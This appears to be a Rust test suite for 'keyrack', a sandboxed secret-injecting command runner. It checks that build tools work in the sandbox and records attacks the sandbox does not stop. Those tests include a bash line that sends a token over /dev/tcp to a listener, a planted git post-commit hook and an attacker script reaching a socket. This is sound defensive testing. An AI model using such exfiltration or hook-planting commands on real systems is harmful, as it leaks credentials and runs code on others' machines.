//! What works in a sandbox, by intention or by nature: the tools that robots build with, and
//! the attacks that nobody claims to stop. And when there is no sandbox to be had.

use std::path::{Path, PathBuf};

use keyrack_tests::skip::{Missing, has, skip};
use keyrack_tests::{Prison, daemons, need};

#[test]
fn a_working_directory_that_holds_keys_is_only_read() {
    let prison = Prison::ordinary();
    let done = prison.rack().sh("cd; keyrack exec --for bot --isolate -- touch here");
    assert_ne!(done.code, 0, "{done}");
    assert!(done.errors().contains("is read-only in the sandbox: it holds "), "{done}");
    prison.rack().sh("cd ~/.ssh; keyrack exec --for bot --isolate -- true").code(2);
}

#[test]
fn where_namespaces_are_forbidden_nothing_is_run() {
    let prison = Prison::ordinary();
    // Inside of a user namespace its root may forbid any further one.
    let forbidden = |line: &str| {
        prison.rack().sh(&format!(
            "unshare -Ur sh -c 'echo 0 >/proc/sys/user/max_user_namespaces; exec {line}'"
        ))
    };
    let done = forbidden("keyrack exec --quiet --for bot --isolate -- echo ran");
    done.code(13).bytes(b"");
    assert!(
        done.errors().contains("no sandbox can be made here")
            && done.errors().contains("max_user_namespaces"),
        "{done}"
    );
    let done = forbidden("keyrack exec --for bot --isolate=best-effort -- echo ran");
    done.ok().stdout("ran\n");
    assert!(done.errors().contains("the sandbox lacks user and mount namespaces"), "{done}");
}

/// Runs a script of the robot's in its sandbox.
fn build(prison: &Prison, script: &str) -> keyrack_tests::Finished {
    prison.rack().write("work/build.sh", script);
    prison.rack().sh("keyrack exec --quiet --for bot --isolate -- bash -eu build.sh")
}

#[test]
fn git_works_inside() {
    need!("git");
    let script = "git init -q repo; cd repo; git config user.name a; git config user.email a@b; \
        echo x >f; git add f; git commit -qm x; git log --format=%s";
    build(&Prison::ordinary(), script).ok().stdout("x\n");
}

#[test]
fn python_works_inside() {
    let script = "python3 -m venv --without-pip v; \
        v/bin/python -c 'import multiprocessing as m, tempfile; m.Lock(); tempfile.TemporaryFile(); print(1)'";
    build(&Prison::ordinary(), script).ok().stdout("1\n");
}

#[test]
fn npm_works_inside() {
    if !has("npm") {
        return skip("sandbox.rs::npm_works_inside", Missing::Here("npm is not installed"));
    }
    let package = r#"{"name":"x","version":"1.0.0","scripts":{"go":"node -e 'console.log(process.env.TOKEN)'"}}"#;
    let prison = Prison::ordinary();
    prison.rack().write("work/package.json", package);
    let script = "mkdir app; cp package.json app; cd app; npm run --silent go; \
        npm install --offline --no-audit --no-fund >/dev/null; ls";
    build(&prison, script).ok().stdout("bot-value\npackage-lock.json\npackage.json\n");
}

#[test]
fn cargo_works_inside() {
    // cargo may lie where only root can look.
    let prison = Prison::of_a_name();
    let Some(cargo) = real_cargo() else {
        return skip("sandbox.rs::cargo_works_inside", Missing::Here("there is no cargo"));
    };
    let script = format!(
        "export PATH={}:$PATH; {cargo} new -q app --vcs none; cd app; {cargo} run -q --offline",
        cargo.parent().expect("a directory").display(),
        cargo = cargo.display()
    );
    build(&prison, &script).ok().stdout("Hello, world!\n");
}

/// The cargo of the toolchain that runs this: rustup's stand-in of that name keeps settings
/// in a home that the sandbox has another of.
fn real_cargo() -> Option<PathBuf> {
    let sysroot = std::process::Command::new("rustc").args(["--print", "sysroot"]).output().ok()?;
    let sysroot = String::from_utf8(sysroot.stdout).ok()?;
    Some(Path::new(sysroot.trim()).join("bin/cargo")).filter(|cargo| cargo.is_file())
}

/// Names are no secret, and values are in no command line.
#[test]
fn reading_command_lines_of_others_succeeds_by_design() {
    let prison = Prison::ordinary();
    let pid = prison.robot().expect("it runs");
    prison.succeeds("", &format!("read /proc/{pid}/cmdline"));
}

/// What is hidden is what is there when the program starts.
#[test]
fn reaching_a_socket_that_comes_later_succeeds_by_design() {
    let prison = Prison::ordinary();
    let path = prison.rack().home().join("later.sock");
    let attacker = prison.rack().path("attackers/attack.py");
    let script = format!(
        "keyrack exec --quiet --for bot --isolate -- sh -c 'touch up; until [ -e go ]; do sleep 0.02; done; python3 {} connect {}'",
        attacker.display(),
        path.display()
    );
    let running = prison.rack().script(&script).start();
    daemons::until(|| prison.rack().path("work/up").exists());
    let (_listener, _) = prison.listener("home/later.sock");
    prison.rack().write("work/go", "");
    running.finish().code(99);
}

/// What is shared on purpose is shared: whoever works in the same repository runs what the
/// robot leaves there.
#[test]
fn a_hook_left_in_a_shared_repository_succeeds_by_design() {
    need!("git");
    let prison = Prison::ordinary();
    let script = "git init -q shared; cd shared; printf '#!/bin/sh\\necho robot was here\\n' >hook; chmod +x hook; \
        keyrack exec --quiet --for bot --isolate -- cp hook .git/hooks/post-commit; \
        git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x";
    let done = prison.rack().sh(script);
    assert!(done.ok().errors().contains("robot was here"), "{done}");
}

/// Values are for the program: with a network it can send them anywhere.
#[test]
fn sending_a_value_away_succeeds_by_design() {
    use std::io::Read as _;
    let prison = Prison::ordinary();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("bound").port();
    let line = format!(
        "keyrack exec --quiet --for bot --key TOKEN --isolate -- bash -c 'printf %s $TOKEN >/dev/tcp/127.0.0.1/{port}'"
    );
    prison.rack().sh(&line).ok();
    let mut told = String::new();
    listener.accept().expect("it came").0.read_to_string(&mut told).expect("text");
    assert_eq!(told, "bot-value");
}
